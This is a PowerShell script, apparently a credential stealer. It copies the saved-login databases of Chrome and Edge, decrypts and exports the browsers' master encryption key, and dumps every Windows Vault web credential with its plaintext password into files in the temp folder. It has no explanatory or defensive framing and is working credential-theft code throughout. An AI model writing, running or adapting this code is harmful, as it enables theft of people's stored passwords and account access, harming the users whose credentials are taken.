# Collects saved browser logins and Windows Vault web credentials from the current user.
Add-Type -AssemblyName System.Security

function Get-ChromiumLogins {
    param([string]$ProfileDir)

    $db = Join-Path -Path $ProfileDir -ChildPath 'Login Data'
    $state = Join-Path -Path (Split-Path -Path $ProfileDir -Parent) -ChildPath 'Local State'
    if (-not (Test-Path -Path $db)) { return }

    $copy = "$env:TEMP\ld_$([guid]::NewGuid().ToString('N')).tmp"
    Copy-Item -Path $db -Destination $copy -Force

    $json = Get-Content -Path $state -Raw | ConvertFrom-Json
    $encKey = [Convert]::FromBase64String($json.os_crypt.encrypted_key)
    $masterKey = [Security.Cryptography.ProtectedData]::Unprotect($encKey[5..($encKey.Length - 1)], $null, 'CurrentUser')

    [pscustomobject]@{
        Browser   = Split-Path -Path (Split-Path -Path $ProfileDir -Parent) -Leaf
        Database  = $copy
        MasterKey = [Convert]::ToBase64String($masterKey)
    }
}

$found = @()
$found += Get-ChromiumLogins -ProfileDir "$env:LOCALAPPDATA\Google\Chrome\User Data\Default"
$found += Get-ChromiumLogins -ProfileDir "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default"

[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]
$vault = New-Object Windows.Security.Credentials.PasswordVault
$webCreds = $vault.RetrieveAll() | ForEach-Object { $_.RetrievePassword(); $_ } |
    Select-Object -Property Resource, UserName, Password

$found | ConvertTo-Json | Out-File -FilePath "$env:TEMP\b.json"
$webCreds | Export-Csv -Path "$env:TEMP\v.csv" -NoTypeInformation
